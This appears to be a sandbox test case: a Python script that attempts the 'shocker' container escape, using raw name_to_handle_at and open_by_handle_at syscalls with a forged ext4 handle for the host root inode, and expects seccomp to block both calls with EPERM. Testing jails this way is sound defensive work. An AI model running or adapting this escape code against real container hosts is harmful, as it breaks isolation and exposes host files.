# attack: the "shocker" escape: name_to_handle_at on the jail's root, then open_by_handle_at with
# attack: a forged handle of the host filesystem's root inode (2) through a descriptor of a bind
# attack: mount of the host's filesystem.
# kernel_only: ctypes is blocked by the shipped policy layer; raw syscalls are the attack
# expect: status=security_violation
# expect: result.name_to_handle_at=EPERM
# expect: result.open_by_handle_at=EPERM
# stopped_by: seccomp: violation=name_to_handle_at
# stopped_by: seccomp: violation=open_by_handle_at
# note: open_by_handle_at also needs CAP_DAC_READ_SEARCH in the host's user namespace, which the
# note: jail never has.
import ctypes, errno, os, struct

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
AT_FDCWD = -100


def call(nr, *args):
    ctypes.set_errno(0)
    rv = libc.syscall(ctypes.c_long(nr), *args)
    return "ok" if rv >= 0 else errno.errorcode[ctypes.get_errno()]


handle = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0), 8 + 128)
mount_id = ctypes.c_int(0)
# ext4's FILEID_INO32_GEN (type 1): inode 2, generation 0, the root of the host's filesystem
forged = ctypes.create_string_buffer(struct.pack("<IiII", 8, 1, 2, 0))
host_fs = os.open("/usr/lib/python3.11", os.O_RDONLY | os.O_DIRECTORY)
result = {
    "name_to_handle_at": call(303, ctypes.c_long(AT_FDCWD), ctypes.c_char_p(b"/"), handle,
                              ctypes.byref(mount_id), ctypes.c_long(0)),
    "open_by_handle_at": call(304, ctypes.c_long(host_fs), forged, ctypes.c_long(os.O_RDONLY)),
}
